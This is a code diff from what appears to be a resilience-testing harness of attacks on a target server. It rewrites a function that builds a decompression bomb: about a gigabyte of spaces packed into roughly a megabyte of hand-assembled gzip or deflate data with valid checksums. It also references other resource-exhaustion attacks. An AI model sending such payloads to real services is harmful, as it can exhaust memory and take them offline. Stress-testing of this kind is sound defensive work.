@@ -5,6 +5,7 @@ import gzip
 import json
 import random
 import socket
+import struct
 import time
 import zlib
 from collections import Counter
@@ -13,7 +14,7 @@ from typing import Any
 
 from attacks import PATIENT_SECONDS, Attack, Target
 
-from ensemble.client import SECRET_HEADER
+from ensemble.headers import SECRET_HEADER
 
 DEPTH = 100_000
 CHUNKED_BYTES = 3_600_000
@@ -108,11 +109,16 @@ def one_byte_chunks(target: Target, _: random.Random) -> str:
 
 @functools.cache
 def bomb(kind: str) -> bytes:
-    """A gigabyte of spaces, compressed to about a megabyte."""
-    squeeze = zlib.compressobj(6, zlib.DEFLATED, 31 if kind == "gzip" else 15)
-    piece = b" " * PIECE
-    parts = [squeeze.compress(piece) for _ in range(BOMB_BYTES // PIECE)]
-    return b"".join([*parts, squeeze.flush()])
+    """A gigabyte of spaces, compressed to about a megabyte, as `gzip` or as `deflate` (zlib's format)."""
+    squeeze, piece = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS), b" " * PIECE
+    block = squeeze.compress(piece) + squeeze.flush(zlib.Z_FULL_FLUSH)  # needs nothing of what is before it
+    count = BOMB_BYTES // PIECE
+    body = block * count + b"\3\0"
+    if kind == "deflate":
+        total = functools.reduce(lambda before, _: zlib.adler32(piece, before), range(count), 1)
+        return b"\x78\x9c" + body + total.to_bytes(4, "big")
+    total = functools.reduce(lambda before, _: zlib.crc32(piece, before), range(count), 0)
+    return b"\x1f\x8b\x08" + bytes(6) + b"\xff" + body + struct.pack("<II", total, BOMB_BYTES % 2**32)
 
 
 def gzip_bomb(target: Target, rng: random.Random) -> str:
